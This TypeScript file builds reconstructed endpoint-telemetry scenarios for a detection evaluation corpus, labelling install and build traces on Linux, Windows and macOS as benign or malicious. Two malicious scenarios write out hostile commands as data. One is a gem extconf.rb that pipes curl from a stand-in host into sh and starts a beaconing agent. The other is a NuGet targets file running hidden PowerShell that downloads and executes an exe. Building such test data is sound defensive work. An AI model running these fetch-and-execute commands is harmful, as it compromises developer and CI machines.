/**
 * Installs that cannot be recorded in this project's Linux sandbox, reconstructed from the tools'
 * documented behaviour and rendered in a real telemetry format (eval-corpus/reconstructed/):
 * the two incident kinds issue 24 reports missed (a RubyGems extension build payload on auditd,
 * a NuGet .targets payload run by a Visual Studio build), and the benign Windows, macOS and
 * auditd shapes every install has (npm's `cmd.exe /d /s /c`, node-gyp with MSBuild/CL.exe or
 * Xcode's clang, registry and GitHub downloads by bare IP).
 *
 * Behaviour sources: RubyGems builds extensions by running `ruby -I … extconf.rb` then `make` in
 * the gem's ext folder (Gem::Ext::ExtConfBuilder); a gem's extconf.rb is arbitrary Ruby run at
 * install. Visual Studio builds through MSBuild worker nodes (`MSBuild.exe /nodemode:1
 * /nodeReuse:true`); MSBuild's Exec task writes its command to a temporary `.exec.cmd` and runs
 * `cmd.exe /Q /D /C` on it. node-gyp on Windows finds Visual Studio with PowerShell
 * (Find-VisualStudio.cs), runs gyp with python and builds with MSBuild (Tracker, CL, link); on
 * macOS gyp's xcode_emulation asks `xcrun`/`xcodebuild -version`/`sw_vers`, and make runs the
 * Command Line Tools' clang. esbuild's postinstall runs `node install.js`, which runs the
 * platform binary with `--version`; husky's prepare runs `git config core.hooksPath`;
 * prebuild-install downloads the addon from GitHub release assets; cargo fetches crates from
 * static.crates.io. Addresses are from the documentation ranges; real CDNs answer from others.
 */
import { FORMATS, MACOS_SENSOR, type Format } from './formats.js';
import { scenario, type Scenario } from './scenarios.js';

export interface Reconstructed {
  file: string;
  label: 'malicious' | 'benign';
  notes: string;
  format: Format;
  scenario: Scenario;
}

const format = (name: string): Format => {
  const f = name === MACOS_SENSOR.name ? MACOS_SENSOR : FORMATS.find((x) => x.name === name);
  if (!f) throw new Error(`no format ${name}`);
  return f;
};

const NODE = 'C:\\Program Files\\nodejs\\node.exe';
const NPM_CLI = 'C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const PWSH = 'C:\\Program Files\\PowerShell\\7\\pwsh.exe';
const WINPS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const APP = 'C:\\src\\portal';
const NM = `${APP}\\node_modules`;
const VS = 'C:\\Program Files\\Microsoft Visual Studio\\2022\\Community';
const MSBUILD = `${VS}\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe`;
const MSVC = `${VS}\\VC\\Tools\\MSVC\\14.38.33130\\bin\\HostX64\\x64`;

const rubygemsExtconf = scenario('linux', 'rubygems-extconf-payload', 'gem install of a gem whose extconf.rb fetches and runs a script', 'ci-runner-12', 'gitlab-runner', { image: '/usr/bin/bash', cmd: ['bash', '-c', 'gem install --no-document fastlane-plugin-cryptokit'], cwd: '/builds/mobile/app' }, (b) =>
  b
    .proc('gem', 'root', '/usr/bin/ruby3.1', ['/usr/bin/ruby3.1', '/usr/bin/gem', 'install', '--no-document', 'fastlane-plugin-cryptokit'], '/builds/mobile/app')
    .net('gem', '198.51.100.151', 443, undefined, 600)
    .proc('extconf', 'gem', '/usr/bin/ruby3.1', ['/usr/bin/ruby3.1', '-I', '/usr/lib/ruby/vendor_ruby', '-r', './siteconf20261128-31417-1x9k2c.rb', 'extconf.rb'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 2400)
    .proc('sh', 'extconf', '/usr/bin/dash', ['sh', '-c', 'curl -fsSL http://203.0.113.140/k.sh | sh'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 300)
    .proc('curl', 'sh', '/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.140/k.sh'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 2)
    .net('curl', '203.0.113.140', 80, undefined, 30)
    .proc('sh2', 'sh', '/usr/bin/dash', ['sh'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 1)
    .proc('agent', 'sh2', '/tmp/.X11-cache/kworker', ['/tmp/.X11-cache/kworker', '-d'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 400)
    .net('agent', '203.0.113.140', 8443, undefined, 200)
    .proc('make', 'gem', '/usr/bin/make', ['make', 'DESTDIR=', 'sitearchdir=./.gem.20261128-31417-1b8x0q', 'sitelibdir=./.gem.20261128-31417-1b8x0q'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 900)
    .proc('cc', 'make', '/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', '-I.', '-I/usr/include/x86_64-linux-gnu/ruby-3.1.0', '-fPIC', '-O3', '-c', 'cryptokit.c'], '/var/lib/gems/3.1.0/gems/fastlane-plugin-cryptokit-0.3.1/ext/cryptokit', 20),
);

const nugetVisualStudio = scenario('windows', 'nuget-targets-visual-studio', 'Visual Studio build imports a NuGet package whose build/*.targets runs an Exec task', 'DEV-WS-207.corp.example.com', 'CORP\\mrossi', { image: `${VS}\\Common7\\IDE\\devenv.exe`, cmd: `"${VS}\\Common7\\IDE\\devenv.exe" "C:\\src\\Billing\\Billing.sln"`, cwd: 'C:\\src\\Billing\\' }, (b) =>
  b
    .proc('msbuild', 'root', MSBUILD, `"${MSBUILD}" /nologo /nodemode:1 /nodeReuse:true /low:false`, `${VS}\\MSBuild\\Current\\Bin\\amd64\\`)
    .file('msbuild', 'C:\\Users\\mrossi\\AppData\\Local\\Temp\\MSBuildTemp\\tmp6c1f0e2a9b8d4f7e.exec.cmd', 3000)
    .proc('exec', 'msbuild', CMD, `C:\\WINDOWS\\system32\\cmd.exe /Q /D /C C:\\Users\\mrossi\\AppData\\Local\\Temp\\MSBuildTemp\\tmp6c1f0e2a9b8d4f7e.exec.cmd`, 'C:\\src\\Billing\\Billing.Api\\', 10)
    .proc('ps', 'exec', WINPS, `powershell  -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "$u='http://198.51.100.172/v2/telemetry.exe';$p=\\"$env:TEMP\\svchost-update.exe\\";iwr $u -OutFile $p;& $p"`, 'C:\\src\\Billing\\Billing.Api\\', 40)
    .dns('ps', 'telemetry-cdn.invalid', ['198.51.100.172'], 300)
    .net('ps', '198.51.100.172', 80, undefined, 20)
    .file('ps', 'C:\\Users\\mrossi\\AppData\\Local\\Temp\\svchost-update.exe', 400)
    .proc('drop', 'ps', 'C:\\Users\\mrossi\\AppData\\Local\\Temp\\svchost-update.exe', '"C:\\Users\\mrossi\\AppData\\Local\\Temp\\svchost-update.exe"', 'C:\\src\\Billing\\Billing.Api\\', 200)
    .net('drop', '198.51.100.173', 443, undefined, 500),
);

/** npm on Windows: every lifecycle script through `cmd.exe /d /s /c`, none of them harmful. */
const npmLifecycleWindows = scenario('windows', 'npm-lifecycle-cmd-wrapping', 'npm ci of a web app: esbuild, husky and core-js scripts wrapped by cmd.exe /d /s /c', 'DEV-WS-118.corp.example.com', 'CORP\\jlee', { image: PWSH, cmd: `"${PWSH}"`, cwd: `${APP}\\` }, (b) =>
  b
    .proc('npmcmd', 'root', CMD, `C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\nodejs\\npm.cmd" ci`, `${APP}\\`)
    .proc('npm', 'npmcmd', NODE, `"${NODE}" "${NPM_CLI}" ci`, `${APP}\\`, 60)
    .dns('npm', 'registry.npmjs.org', ['198.51.100.34', '198.51.100.35'], 300)
    .net('npm', '198.51.100.34', 443, undefined, 30)
    .net('npm', '198.51.100.35', 443, undefined, 30)
    .proc('esb', 'npm', CMD, `C:\\WINDOWS\\system32\\cmd.exe /d /s /c "node install.js"`, `${NM}\\esbuild\\`, 5200)
    .proc('esbnode', 'esb', NODE, 'node  install.js', `${NM}\\esbuild\\`, 30)
    .proc('esbbin', 'esbnode', `${NM}\\@esbuild\\win32-x64\\esbuild.exe`, `"${NM}\\@esbuild\\win32-x64\\esbuild.exe" --version`, `${NM}\\esbuild\\`, 90)
    .proc('core', 'npm', CMD, `C:\\WINDOWS\\system32\\cmd.exe /d /s /c "node -e \\"try{require('./postinstall')}catch(e){}\\""`, `${NM}\\core-js\\`, 400)
    .proc('corenode', 'core', NODE, `node  -e "try{require('./postinstall')}catch(e){}"`, `${NM}\\core-js\\`, 30)
    .proc('husky', 'npm', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "husky"', `${APP}\\`, 600)
    .proc('huskynode', 'husky', NODE, `"${NODE}"  "${NM}\\husky\\bin.js"`, `${APP}\\`, 40)
    .proc('git', 'huskynode', 'C:\\Program Files\\Git\\cmd\\git.exe', 'git config core.hooksPath .husky/_', `${APP}\\`, 60)
    .file('huskynode', `${APP}\\.husky\\_\\pre-commit`, 30)
    .file('huskynode', `${APP}\\.husky\\_\\h`, 5),
);

/** node-gyp building better-sqlite3 after prebuild-install finds no binary: PowerShell, python, MSBuild, CL, link. */
const nodeGypMsbuild = scenario('windows', 'node-gyp-msbuild', 'npm install better-sqlite3: prebuild-install, then node-gyp with MSBuild/CL.exe', 'DEV-WS-118.corp.example.com', 'CORP\\jlee', { image: PWSH, cmd: `"${PWSH}"`, cwd: `${APP}\\` }, (b) =>
  b
    .proc('npmcmd', 'root', CMD, `C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\nodejs\\npm.cmd" install better-sqlite3@11.5.0`, `${APP}\\`)
    .proc('npm', 'npmcmd', NODE, `"${NODE}" "${NPM_CLI}" install better-sqlite3@11.5.0`, `${APP}\\`, 60)
    .dns('npm', 'registry.npmjs.org', ['198.51.100.34'], 300)
    .net('npm', '198.51.100.34', 443, undefined, 30)
    .proc('script', 'npm', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "prebuild-install || node-gyp rebuild --release"', `${NM}\\better-sqlite3\\`, 2100)
    .proc('prebuild', 'script', NODE, `"${NODE}"  "${NM}\\.bin\\..\\prebuild-install\\bin.js"`, `${NM}\\better-sqlite3\\`, 40)
    .dns('prebuild', 'github.com', ['198.51.100.113'], 200)
    .net('prebuild', '198.51.100.113', 443, undefined, 20)
    .dns('prebuild', 'objects.githubusercontent.com', ['198.51.100.133'], 300)
    .net('prebuild', '198.51.100.133', 443, undefined, 20)
    .proc('gyp', 'script', NODE, `"${NODE}"  "C:\\Program Files\\nodejs\\node_modules\\npm\\node_modules\\node-gyp\\bin\\node-gyp.js" rebuild --release`, `${NM}\\better-sqlite3\\`, 900)
    .proc('findvs', 'gyp', WINPS, `"${WINPS}" -ExecutionPolicy Unrestricted -NoProfile -Command "&{Add-Type -Path 'C:\\Program Files\\nodejs\\node_modules\\npm\\node_modules\\node-gyp\\lib\\Find-VisualStudio.cs';[VisualStudioConfiguration.Main]::PrintJson()}"`, `${NM}\\better-sqlite3\\`, 300)
    .dns('gyp', 'nodejs.org', ['198.51.100.46'], 900)
    .net('gyp', '198.51.100.46', 443, undefined, 20)
    .proc('python', 'gyp', 'C:\\Python312\\python.exe', `C:\\Python312\\python.exe "C:\\Program Files\\nodejs\\node_modules\\npm\\node_modules\\node-gyp\\gyp\\gyp_main.py" binding.gyp -f msvs -I "${NM}\\better-sqlite3\\build\\config.gypi" -Dlibrary=shared_library -Dvisibility=default --depth=. --no-parallel --generator-output build -Goutput_dir=.`, `${NM}\\better-sqlite3\\`, 1500)
    .proc('msbuild', 'gyp', MSBUILD, `"${MSBUILD}" build/binding.sln /nologo /p:Configuration=Release;Platform=x64`, `${NM}\\better-sqlite3\\`, 2000)
    .proc('tracker', 'msbuild', `${VS}\\MSBuild\\Current\\Bin\\amd64\\Tracker.exe`, `"${VS}\\MSBuild\\Current\\Bin\\amd64\\Tracker.exe" /d "${VS}\\MSBuild\\Current\\Bin\\amd64\\FileTracker64.dll" /i ${NM}\\better-sqlite3\\build\\Release\\obj\\sqlite3\\sqlite3.tlog /r ${NM}\\better-sqlite3\\deps\\sqlite3\\sqlite3.c /b MSBuildConsole_CancelEventfe1d /c "${MSVC}\\CL.exe" /c /I"C:\\Users\\jlee\\AppData\\Local\\node-gyp\\Cache\\20.11.1\\include\\node" /O2 /MD sqlite3.c`, `${NM}\\better-sqlite3\\build\\`, 1200)
    .proc('cl', 'tracker', `${MSVC}\\CL.exe`, `"${MSVC}\\CL.exe" /c /I"C:\\Users\\jlee\\AppData\\Local\\node-gyp\\Cache\\20.11.1\\include\\node" /O2 /MD ..\\deps\\sqlite3\\sqlite3.c`, `${NM}\\better-sqlite3\\build\\`, 20)
    .proc('link', 'msbuild', `${MSVC}\\link.exe`, `"${MSVC}\\link.exe" /ERRORREPORT:QUEUE /OUT:"${NM}\\better-sqlite3\\build\\Release\\better_sqlite3.node" /DLL node.lib`, `${NM}\\better-sqlite3\\build\\`, 9000),
);

/** npm install bcrypt on macOS with the Xcode Command Line Tools: node-gyp, xcrun, sw_vers, clang. */
const xcodeClang = scenario('macos', 'node-gyp-xcode-clang', 'npm install bcrypt on macOS: node-pre-gyp, then node-gyp with Xcode CLT clang', 'mbp-skaur', 'skaur', { image: '/bin/zsh', cmd: ['-zsh'], cwd: '/Users/skaur/code/api' }, (b) =>
  b
    .proc('npm', 'root', '/opt/homebrew/Cellar/node/22.11.0/bin/node', ['node', '/opt/homebrew/bin/npm', 'install', 'bcrypt@5.1.1'], '/Users/skaur/code/api')
    .dns('npm', 'registry.npmjs.org', ['198.51.100.35'], 200)
    .net('npm', '198.51.100.35', 443, 'registry.npmjs.org', 20)
    .proc('script', 'npm', '/bin/sh', ['sh', '-c', 'node-pre-gyp install --fallback-to-build'], '/Users/skaur/code/api/node_modules/bcrypt', 2000)
    .proc('pregyp', 'script', '/opt/homebrew/Cellar/node/22.11.0/bin/node', ['node', '/Users/skaur/code/api/node_modules/.bin/node-pre-gyp', 'install', '--fallback-to-build'], '/Users/skaur/code/api/node_modules/bcrypt', 30)
    .dns('pregyp', 'github.com', ['198.51.100.113'], 200)
    .net('pregyp', '198.51.100.113', 443, 'github.com', 20)
    .proc('gyp', 'pregyp', '/opt/homebrew/Cellar/node/22.11.0/bin/node', ['/opt/homebrew/Cellar/node/22.11.0/bin/node', '/opt/homebrew/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'configure', '--fallback-to-build', '--module=/Users/skaur/code/api/node_modules/bcrypt/lib/binding/napi-v3/bcrypt_lib.node'], '/Users/skaur/code/api/node_modules/bcrypt', 700)
    .dns('gyp', 'nodejs.org', ['198.51.100.46'], 300)
    .net('gyp', '198.51.100.46', 443, 'nodejs.org', 20)
    .proc('python', 'gyp', '/opt/homebrew/bin/python3.12', ['/opt/homebrew/bin/python3', '/opt/homebrew/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py', 'binding.gyp', '-f', 'make', '--depth=.', '--generator-output', 'build', '-Goutput_dir=.'], '/Users/skaur/code/api/node_modules/bcrypt', 900)
    .proc('xcselect', 'python', '/usr/bin/xcode-select', ['xcode-select', '-p'], '/Users/skaur/code/api/node_modules/bcrypt', 100)
    .proc('xcodebuild', 'python', '/usr/bin/xcodebuild', ['xcodebuild', '-version'], '/Users/skaur/code/api/node_modules/bcrypt', 50)
    .proc('swvers', 'python', '/usr/bin/sw_vers', ['sw_vers', '-productVersion'], '/Users/skaur/code/api/node_modules/bcrypt', 80)
    .proc('xcrun', 'python', '/usr/bin/xcrun', ['xcrun', '--sdk', 'macosx', '--show-sdk-path'], '/Users/skaur/code/api/node_modules/bcrypt', 60)
    .proc('build', 'pregyp', '/opt/homebrew/Cellar/node/22.11.0/bin/node', ['/opt/homebrew/Cellar/node/22.11.0/bin/node', '/opt/homebrew/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'build', '--fallback-to-build'], '/Users/skaur/code/api/node_modules/bcrypt', 1500)
    .proc('make', 'build', '/usr/bin/make', ['make', 'BUILDTYPE=Release', '-C', 'build'], '/Users/skaur/code/api/node_modules/bcrypt', 100)
    .proc('cxx', 'make', '/Library/Developer/CommandLineTools/usr/bin/clang++', ['c++', '-o', 'Release/obj.target/bcrypt_lib/src/bcrypt_node.o', '../src/bcrypt_node.cc', '-O3', '-arch', 'arm64', '-mmacosx-version-min=11.0', '-std=gnu++17', '-c'], '/Users/skaur/code/api/node_modules/bcrypt/build', 300)
    .proc('ld', 'make', '/Library/Developer/CommandLineTools/usr/bin/clang++', ['c++', '-bundle', '-undefined', 'dynamic_lookup', '-arch', 'arm64', '-o', 'Release/bcrypt_lib.node'], '/Users/skaur/code/api/node_modules/bcrypt/build', 4000),
);

/** npm ci on a Linux agent under auditd (no names): every download by bare IP, the scripts benign. */
const npmCiAuditd = scenario('linux', 'npm-ci-native-and-hooks', 'npm ci: registry tarballs, esbuild and husky scripts, prebuild-install from GitHub, a node-gyp fallback', 'ci-agent-03', 'jenkins', { image: '/bin/sh', cmd: ['sh', '-c', 'npm ci'], cwd: '/var/lib/jenkins/workspace/portal' }, (b) =>
  b
    .proc('npm', 'root', '/usr/bin/node', ['node', '/usr/bin/npm', 'ci'], '/var/lib/jenkins/workspace/portal')
    .net('npm', '198.51.100.34', 443, undefined, 400)
    .net('npm', '198.51.100.35', 443, undefined, 30)
    .proc('esb', 'npm', '/usr/bin/dash', ['sh', '-c', 'node install.js'], '/var/lib/jenkins/workspace/portal/node_modules/esbuild', 4000)
    .proc('esbnode', 'esb', '/usr/bin/node', ['node', 'install.js'], '/var/lib/jenkins/workspace/portal/node_modules/esbuild', 3)
    .proc('esbbin', 'esbnode', '/var/lib/jenkins/workspace/portal/node_modules/@esbuild/linux-x64/bin/esbuild', ['/var/lib/jenkins/workspace/portal/node_modules/@esbuild/linux-x64/bin/esbuild', '--version'], '/var/lib/jenkins/workspace/portal/node_modules/esbuild', 60)
    .proc('sq', 'npm', '/usr/bin/dash', ['sh', '-c', 'prebuild-install || node-gyp rebuild --release'], '/var/lib/jenkins/workspace/portal/node_modules/better-sqlite3', 300)
    .proc('prebuild', 'sq', '/usr/bin/node', ['node', '/var/lib/jenkins/workspace/portal/node_modules/.bin/prebuild-install'], '/var/lib/jenkins/workspace/portal/node_modules/better-sqlite3', 3)
    .net('prebuild', '198.51.100.113', 443, undefined, 200)
    .net('prebuild', '198.51.100.133', 443, undefined, 300)
    .proc('bc', 'npm', '/usr/bin/dash', ['sh', '-c', 'node-gyp rebuild'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil', 300)
    .proc('gyp', 'bc', '/usr/bin/node', ['node', '/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil', 3)
    .net('gyp', '198.51.100.46', 443, undefined, 600)
    .proc('gyppy', 'gyp', '/usr/bin/python3.12', ['/usr/bin/python3', '/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py', 'binding.gyp', '-f', 'make'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil', 500)
    .proc('uname', 'gyppy', '/usr/bin/uname', ['uname', '-p'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil', 50)
    .proc('make', 'gyp', '/usr/bin/make', ['make', 'BUILDTYPE=Release', '-C', 'build'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil', 600)
    .proc('mksh', 'make', '/usr/bin/dash', ['sh', '-c', 'cc -o Release/obj.target/bufferutil/src/bufferutil.o ../src/bufferutil.c -O3 -c'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil/build', 20)
    .proc('cc', 'mksh', '/usr/bin/x86_64-linux-gnu-gcc-12', ['cc', '-o', 'Release/obj.target/bufferutil/src/bufferutil.o', '../src/bufferutil.c', '-O3', '-c'], '/var/lib/jenkins/workspace/portal/node_modules/bufferutil/build', 2)
    .proc('husky', 'npm', '/usr/bin/dash', ['sh', '-c', 'husky'], '/var/lib/jenkins/workspace/portal', 3000)
    .proc('huskynode', 'husky', '/usr/bin/node', ['node', '/var/lib/jenkins/workspace/portal/node_modules/.bin/husky'], '/var/lib/jenkins/workspace/portal', 3)
    .proc('git', 'huskynode', '/usr/bin/git', ['git', 'config', 'core.hooksPath', '.husky/_'], '/var/lib/jenkins/workspace/portal', 40)
    .proc('idcheck', 'npm', '/usr/bin/dash', ['sh', '-c', 'if [ "$(id -u)" = "0" ]; then echo "skipping chown as root"; fi'], '/var/lib/jenkins/workspace/portal/node_modules/puppeteer', 800)
    .proc('idu', 'idcheck', '/usr/bin/id', ['id', '-u'], '/var/lib/jenkins/workspace/portal/node_modules/puppeteer', 2),
);

/** cargo build under auditd: crates from static.crates.io and a GitHub git dependency, build scripts running cc. */
const cargoAuditd = scenario('linux', 'cargo-build-fetch', 'cargo build: crates and a git dependency fetched by bare IP, ring and openssl-sys build scripts', 'ci-agent-03', 'jenkins', { image: '/bin/sh', cmd: ['sh', '-c', 'cargo build --release'], cwd: '/var/lib/jenkins/workspace/gateway' }, (b) =>
  b
    .proc('cargo', 'root', '/var/lib/jenkins/.cargo/bin/cargo', ['cargo', 'build', '--release'], '/var/lib/jenkins/workspace/gateway')
    .net('cargo', '198.51.100.71', 443, undefined, 300)
    .net('cargo', '198.51.100.72', 443, undefined, 200)
    .proc('git', 'cargo', '/usr/bin/git', ['git', 'fetch', '--force', '--update-head-ok', 'https://github.com/tokio-rs/tracing', '+HEAD:refs/remotes/origin/HEAD'], '/var/lib/jenkins/.cargo/git/db/tracing-9d3b2a1c0f8e7d6a', 400)
    .proc('gitremote', 'git', '/usr/lib/git-core/git-remote-https', ['git-remote-https', 'https://github.com/tokio-rs/tracing', 'https://github.com/tokio-rs/tracing'], '/var/lib/jenkins/.cargo/git/db/tracing-9d3b2a1c0f8e7d6a', 3)
    .net('gitremote', '198.51.100.113', 443, undefined, 100)
    .proc('ring', 'cargo', '/var/lib/jenkins/workspace/gateway/target/release/build/ring-5c1e7f3a9b2d4c6e/build-script-build', ['/var/lib/jenkins/workspace/gateway/target/release/build/ring-5c1e7f3a9b2d4c6e/build-script-build'], '/var/lib/jenkins/.cargo/registry/src/index.crates.io-6f17d22bba15001f/ring-0.17.8', 5000)
    .proc('ringcc', 'ring', '/usr/bin/x86_64-linux-gnu-gcc-12', ['cc', '-O3', '-fPIC', '-c', 'crypto/curve25519/curve25519.c'], '/var/lib/jenkins/.cargo/registry/src/index.crates.io-6f17d22bba15001f/ring-0.17.8', 30)
    .proc('ossl', 'cargo', '/var/lib/jenkins/workspace/gateway/target/release/build/openssl-sys-8e2f4a6c1d3b5e7f/build-script-main', ['/var/lib/jenkins/workspace/gateway/target/release/build/openssl-sys-8e2f4a6c1d3b5e7f/build-script-main'], '/var/lib/jenkins/.cargo/registry/src/index.crates.io-6f17d22bba15001f/openssl-sys-0.9.103', 1000)
    .proc('pkgconfig', 'ossl', '/usr/bin/pkg-config', ['pkg-config', '--libs', '--cflags', 'openssl'], '/var/lib/jenkins/.cargo/registry/src/index.crates.io-6f17d22bba15001f/openssl-sys-0.9.103', 20),
);

export const RECONSTRUCTED: Reconstructed[] = [
  { file: 'reconstructed/malicious/rubygems-extconf-payload-linux.audit', label: 'malicious', notes: 'gem install on a CI runner; the gem extconf.rb pipes curl into sh and starts a dropped agent that calls home on 8443 (auditd, no names; hosts are stand-ins)', format: format('auditd-raw'), scenario: rubygemsExtconf },
  { file: 'reconstructed/malicious/nuget-targets-visual-studio-windows.xml', label: 'malicious', notes: 'Visual Studio build (devenv, MSBuild /nodemode:1 worker): a NuGet build/*.targets Exec task runs PowerShell iwr and the downloaded exe (Sysmon event XML; hosts are stand-ins)', format: format('sysmon-event-xml'), scenario: nugetVisualStudio },
  { file: 'reconstructed/benign/npm-lifecycle-cmd-wrapping-windows.xml', label: 'benign', notes: 'npm ci on Windows: esbuild, core-js and husky scripts through cmd.exe /d /s /c (Security 4688 with command lines)', format: format('security-4688'), scenario: npmLifecycleWindows },
  { file: 'reconstructed/benign/npm-lifecycle-cmd-wrapping-windows.csv', label: 'benign', notes: 'the same npm ci as Defender DeviceProcessEvents/DeviceFileEvents/DeviceNetworkEvents', format: format('defender-csv'), scenario: npmLifecycleWindows },
  { file: 'reconstructed/benign/node-gyp-msbuild-cl-windows.xml', label: 'benign', notes: 'npm install better-sqlite3 on Windows: prebuild-install from GitHub, node-gyp with Find-VisualStudio PowerShell, gyp python, MSBuild, Tracker, CL, link (Sysmon event XML)', format: format('sysmon-event-xml'), scenario: nodeGypMsbuild },
  { file: 'reconstructed/benign/node-gyp-xcode-clang-macos.ndjson', label: 'benign', notes: 'npm install bcrypt on macOS: node-pre-gyp, node-gyp, xcode-select, xcodebuild -version, sw_vers, xcrun, make, clang++ (Endpoint Security-style observations)', format: MACOS_SENSOR, scenario: xcodeClang },
  { file: 'reconstructed/benign/npm-ci-native-and-hooks-linux.audit', label: 'benign', notes: 'npm ci under auditd (no names): registry CDN, esbuild and husky scripts, prebuild-install from GitHub, node-gyp headers and build, an id -u root check', format: format('auditd-raw'), scenario: npmCiAuditd },
  { file: 'reconstructed/benign/cargo-build-fetch-linux.audit', label: 'benign', notes: 'cargo build under auditd: crates and a git dependency fetched by bare IP, ring and openssl-sys build scripts', format: format('auditd-raw'), scenario: cargoAuditd },
];
